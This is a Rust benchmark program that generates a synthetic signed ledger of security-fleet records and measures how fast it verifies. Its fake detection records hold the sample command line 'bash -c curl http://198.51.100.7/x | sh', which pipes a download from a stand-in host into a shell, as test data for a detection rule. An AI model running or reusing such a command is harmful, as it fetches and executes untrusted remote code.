//! How fast a ledger is verified on this machine, and in how much memory. `cargo xtask bench verify` runs this and repeats it.
//!
//! ```text
//! bench_verify make LEDGER RECORDS        leaves a sound ledger of so many records there: what a fleet writes, about 1 KiB each
//! bench_verify make LEDGER RECORDS named  the same, each record with a foreignid of its own
//! bench_verify hashing LEDGER             SHA-256 of its leaves and nodes, one core, every byte in memory: the limit
//! bench_verify structure LEDGER [THREADS] hashes, tiles and roots against the checkpoint, nothing else
//! bench_verify full LEDGER [THREADS]      every check
//! ```
//!
//! Prints `name value`: times in seconds, sizes in bytes; `cpu_seconds` is what all threads took together, which a machine that others use
//! too changes less than `seconds`. Each is a process of its own, so that its peak of resident memory is its own.
//! `make` writes bundles, tiles and a signed checkpoint itself, without the writer and its log: what is measured here is reading.

#[path = "../tests/kit/mod.rs"]
#[allow(clippy::unwrap_used, reason = "the kit is made for tests: what it is built on must be there")]
mod kit;

use std::error::Error;
use std::fs;
use std::path::Path;
use std::time::Instant;

use cairn_ledger::dir::LedgerDir;
use cairn_ledger::producer::Chain;
use cairn_ledger::tile::{TILE_WIDTH, TileId, TileKind, encode_entry, encode_hashes};
use cairn_ledger::tree::Frontier;
use cairn_schemas::data::{CheckpointSeen, LoadCause, NodeLoaded, StreamOpened};
use cairn_schemas::digest::Digest;
use cairn_schemas::ids::{ReleaseRef, Sequence, StreamId, TreeSize};
use cairn_schemas::record::Draft;
use cairn_schemas::time::Timestamp;
use cairn_schemas::types::{NodeKind, RecordType};
use cairn_verify::{Options, Verdict, verify};
use kit::Book;
use serde_json::json;

type Result<T> = std::result::Result<T, Box<dyn Error>>;

fn main() -> Result<()> {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
    match arguments[..] {
        ["make", ledger, records] => make(Path::new(ledger), records.parse()?, false),
        ["make", ledger, records, "named"] => make(Path::new(ledger), records.parse()?, true),
        ["hashing", ledger] => hashing(Path::new(ledger)),
        ["structure", ledger] => verification(Path::new(ledger), true, 0),
        ["structure", ledger, threads] => verification(Path::new(ledger), true, threads.parse()?),
        ["full", ledger] => verification(Path::new(ledger), false, 0),
        ["full", ledger, threads] => verification(Path::new(ledger), false, threads.parse()?),
        _ => {
            Err("usage: bench_verify make LEDGER RECORDS [named] | hashing LEDGER | structure|full LEDGER [THREADS]"
                .into())
        }
    }
}

fn say(name: &str, value: impl std::fmt::Display) {
    println!("{name} {value}");
}

fn verification(ledger: &Path, structure: bool, threads: usize) -> Result<()> {
    let started = Instant::now();
    let report = verify(ledger, &Options { threads, structure, ..Options::default() });
    let seconds = started.elapsed().as_secs_f64();
    if report.verdict != Verdict::Ok {
        return Err(format!("a ledger that should be whole is not:\n{}", cairn_verify::render(&report)).into());
    }
    let size = report.checkpoint.map_or(0, |checkpoint| checkpoint.size.0);
    say("records", size);
    say("heads", report.streams.iter().map(|stream| stream.heads).sum::<u64>());
    say("seconds", seconds);
    say("per_second", size as f64 / seconds);
    say("cpu_seconds", cpu_seconds()?);
    say("peak_rss", peak_rss()?);
    Ok(())
}

/// What this process's threads took of the cores so far, in the kernel too, seconds.
fn cpu_seconds() -> Result<f64> {
    /// The unit of `/proc`, the same on every Linux that this runs on.
    const TICKS_A_SECOND: f64 = 100.0;
    let stat = fs::read_to_string("/proc/self/stat")?;
    // Behind the program's name, which may hold anything: state, then numbers; the 12th and 13th are user and system time.
    let (_, fields) = stat.rsplit_once(')').ok_or("no name in /proc/self/stat")?;
    let ticks =
        fields.split_whitespace().skip(11).take(2).map(str::parse::<f64>).sum::<std::result::Result<f64, _>>()?;
    Ok(ticks / TICKS_A_SECOND)
}

/// The most memory that this process ever had resident, bytes.
fn peak_rss() -> Result<u64> {
    let status = fs::read_to_string("/proc/self/status")?;
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).ok_or("no VmHWM in /proc/self/status")?;
    let kib: u64 = line.trim().trim_end_matches("kB").trim().parse()?;
    Ok(kib << 10)
}

/// SHA-256 of each leaf and of each node above them, on one core. No verifier that checks the tree can be faster on that core.
fn hashing(ledger: &Path) -> Result<()> {
    let ledger = LedgerDir::open(ledger)?;
    let (checkpoint, _) = ledger.checkpoint()?;
    let size = checkpoint.size;
    let records: Vec<Vec<u8>> = ledger
        .records(0..size.0, size)
        .map(|item| item.map(|(_, bytes)| bytes))
        .collect::<std::result::Result<_, _>>()?;
    let started = Instant::now();
    let mut hashes: Vec<Digest> = records.iter().map(|record| Digest::leaf(record)).collect();
    // The tree's shape costs nothing here: every pair is hashed once, whatever its level; a node without a sibling moves up.
    while hashes.len() > 1 {
        hashes = hashes
            .chunks(2)
            .map(|pair| match pair {
                [left, right] => Digest::node(left, right),
                lone => lone[0],
            })
            .collect();
    }
    let seconds = started.elapsed().as_secs_f64();
    if hashes.first() != Some(&checkpoint.root) {
        return Err("the records do not hash to the checkpoint's root".into());
    }
    say("records", size.0);
    say("bytes", records.iter().map(Vec::len).sum::<usize>());
    say("seconds", seconds);
    Ok(())
}

/// How many nodes write, and what of it sensors.
const NODES: usize = 12;
const SENSORS: usize = 6;
/// Nanoseconds from one record of the fleet to the next: 10,000 a second.
const BETWEEN: u64 = 100_000;
/// How often producers see another checkpoint, which their heads then name, nanoseconds.
const SECOND: u64 = 1_000_000_000;

/// A node that writes.
struct Node {
    chain: Chain,
    kind: NodeKind,
    containment: Containment,
}

/// A few detections are acted on: request and outcome follow.
enum Containment {
    None,
    /// Of this detection.
    Due(Sequence),
    /// By this request.
    Requested(Sequence),
}

fn make(folder: &Path, records: u64, named: bool) -> Result<()> {
    let mut book = Book::begun();
    let release = book.reference(1);
    // Its files, whose proof is over the first records.
    book.write(folder);
    fs::remove_dir_all(folder.join("tile"))?;
    let mut log = Log::new(folder);
    let mut control = Chain::new(kit::control());
    let mut clock = 1_900_000_000_000_000_000;
    let mut nodes = Vec::new();
    for number in 0..NODES {
        let kind = if number < SENSORS { NodeKind::Sensor } else { NodeKind::Admission };
        let name = format!("node-{number:02}");
        book.add(&kit::control(), Draft::new(&kit::joined(&name, kind, &kit::key(9))));
        nodes.push(Node {
            chain: Chain::new(StreamId::new(&kit::node(&name), [9; 16])),
            kind,
            containment: Containment::None,
        });
    }
    book.records.iter().try_for_each(|record| log.push(record))?;
    let (next, prev) = book.next(&kit::control());
    control = Chain::resume(control.stream().clone(), next, prev, 1, Timestamp::from_nanos(clock));
    for node in &mut nodes {
        let opened = StreamOpened {
            node: node.chain.stream().node().ok_or("a node's stream")?,
            key: cairn_ledger::head::format_key(&kit::key(9).verifying_key()),
            predecessor: None,
        };
        let loaded =
            NodeLoaded { release, previous: None, cause: LoadCause::Offered, checkpoint_size: log.frontier.size().0 };
        for draft in [Draft::new(&opened), Draft::new(&loaded)] {
            log.push(&node.chain.seal(draft, Timestamp::from_nanos(clock))?.bytes)?;
        }
    }
    let mut seen = None;
    let last = records.saturating_sub(NODES as u64 + 1);
    while log.frontier.size().0 < last {
        let number = log.frontier.size().0;
        if clock % SECOND + BETWEEN >= SECOND {
            seen = Some(log.seen());
        }
        clock += BETWEEN;
        let now = Timestamp::from_nanos(clock);
        let node = &mut nodes[(number.wrapping_mul(0x9e37_79b9) >> 7) as usize % NODES];
        let bytes = if node.chain.head_due(now) {
            node.chain.seal_head(&kit::key(9), seen.clone(), now)?.bytes
        } else {
            let draft = Draft { foreignid: named.then(|| number.to_string()), ..node.next(number, release, now) };
            node.chain.seal(draft, now)?.bytes
        };
        log.push(&bytes)?;
    }
    let now = Timestamp::from_nanos(clock);
    for node in &mut nodes {
        log.push(&node.chain.seal_head(&kit::key(9), seen.clone(), now)?.bytes)?;
    }
    log.push(&control.seal_head(&kit::key(2), seen, now)?.bytes)?;
    log.finish()?;
    say("records", log.frontier.size().0);
    say("bytes", log.bytes);
    Ok(())
}

impl Node {
    /// What this node says next.
    fn next(&mut self, number: u64, release: ReleaseRef, now: Timestamp) -> Draft {
        let own = self.chain.next();
        let containment = std::mem::replace(&mut self.containment, Containment::None);
        let (kind, subject, data) = match (self.kind, containment) {
            (NodeKind::Sensor, Containment::None) => {
                if number.is_multiple_of(100) {
                    self.containment = Containment::Due(own);
                }
                (RecordType::DetectionRaised, "Run shell untrusted".to_owned(), detection(number, now))
            }
            (NodeKind::Sensor, Containment::Due(detection)) => {
                self.containment = Containment::Requested(own);
                (RecordType::ContainmentRequested, "kill-shell".to_owned(), request(number, detection))
            }
            (NodeKind::Sensor, Containment::Requested(request)) => {
                let data = json!({"request": request, "outcome": "killed", "acted_us": 900 + number % 100});
                (RecordType::ContainmentFinished, "kill-shell".to_owned(), data)
            }
            _ => (RecordType::AdmissionDecided, format!("shop/checkout-{}", number % 1_000), decision(number)),
        };
        Draft { kind, subject: Some(subject), release: Some(release), foreignid: None, data }
    }
}

fn detection(number: u64, now: Timestamp) -> serde_json::Value {
    let start = format!("81236471{:06}", number % 1_000_000);
    json!({
        "rule": "Run shell untrusted", "priority": "Notice", "tags": ["mitre_execution", "process", "shell"],
        "source": "syscall", "event": "execve", "observed": now,
        "output": "Shell spawned (parent=%proc.pname cmdline=%proc.cmdline)",
        "fields": {"proc.cmdline": "bash -c curl http://198.51.100.7/x | sh", "proc.name": "bash", "proc.pname": "node"},
        "process": {
            "pid": number % 4_194_304, "start_ns": start, "name": "bash", "executable": "/usr/bin/bash",
            "arguments": ["bash", "-c", "curl http://198.51.100.7/x | sh"],
            "user": {"uid": kit::a_token("uid", "1000")}, "terminal": false,
        },
        "ancestors": [],
        "cut": false,
    })
}

fn request(number: u64, detection: Sequence) -> serde_json::Value {
    let target = json!({"pid": number % 4_194_304, "start_ns": "81236471234567", "executable": "/usr/bin/bash"});
    json!({"detection": detection, "response": "kill-shell", "action": "kill", "target": target})
}

fn decision(number: u64) -> serde_json::Value {
    json!({
        "uid": format!("705ab4f5-6393-11e8-b7cc-{number:012}"), "operation": "CREATE", "kind": "apps/v1/Deployment",
        "resource": "apps/v1/deployments", "namespace": "shop", "name": format!("checkout-{}", number % 1_000),
        "user": kit::a_token("user", "alice"), "allowed": false, "dry_run": false, "object": Digest::sha256(&number.to_be_bytes()),
        "denials": [{
            "guardrail": "pods.no_privileged", "message": "container \"checkout\" is privileged; set securityContext.privileged to false",
        }],
        "omitted": 0, "evaluated_us": 300 + number % 200,
    })
}

/// Bundles and tiles, written as they become full.
struct Log<'a> {
    folder: &'a Path,
    frontier: Frontier,
    bundle: Vec<u8>,
    /// By tile level: its number, and the hashes of the tile that is not full yet.
    levels: Vec<(u64, Vec<Digest>)>,
    bytes: u64,
}

impl Log<'_> {
    fn new(folder: &Path) -> Log<'_> {
        Log { folder, frontier: Frontier::new(), bundle: Vec::new(), levels: Vec::new(), bytes: 0 }
    }

    fn push(&mut self, record: &[u8]) -> Result<()> {
        self.bytes += record.len() as u64;
        encode_entry(&mut self.bundle, record);
        let mut hash = Digest::leaf(record);
        self.frontier.push(hash);
        for level in 0.. {
            if self.levels.len() == level {
                self.levels.push((0, Vec::new()));
            }
            let (number, hashes) = &mut self.levels[level];
            hashes.push(hash);
            if (hashes.len() as u64) < TILE_WIDTH {
                break;
            }
            let mut subtree = Frontier::new();
            hashes.iter().for_each(|hash| subtree.push(*hash));
            hash = subtree.root();
            let tile = encode_hashes(&std::mem::take(hashes));
            let number = std::mem::replace(number, *number + 1);
            kit::put(self.folder, &TileId::full(TileKind::Hashes(level as u8), number).to_string(), &tile);
            if level == 0 {
                let bundle = std::mem::take(&mut self.bundle);
                kit::put(self.folder, &TileId::full(TileKind::Entries, number).to_string(), &bundle);
            }
        }
        Ok(())
    }

    /// A checkpoint of what was pushed so far, as a producer remembers it.
    fn seen(&self) -> CheckpointSeen {
        CheckpointSeen { origin: kit::ORIGIN.into(), size: self.frontier.size().0, root: self.frontier.root() }
    }

    /// The partial tiles, and the checkpoint.
    fn finish(&self) -> Result<()> {
        let size = self.frontier.size();
        for (level, (number, hashes)) in self.levels.iter().enumerate().filter(|(_, (_, hashes))| !hashes.is_empty()) {
            let tile = |kind| TileId::in_tree(kind, *number, size).ok_or("a tile of this tree");
            kit::put(self.folder, &tile(TileKind::Hashes(level as u8))?.to_string(), &encode_hashes(hashes));
            if level == 0 {
                kit::put(self.folder, &tile(TileKind::Entries)?.to_string(), &self.bundle);
            }
        }
        let checkpoint = cairn_ledger::checkpoint::Checkpoint {
            origin: kit::ORIGIN.into(),
            size: TreeSize(size.0),
            root: self.frontier.root(),
        };
        kit::put(self.folder, "checkpoint", &checkpoint.sign(&kit::ledger_signer())?);
        Ok(())
    }
}
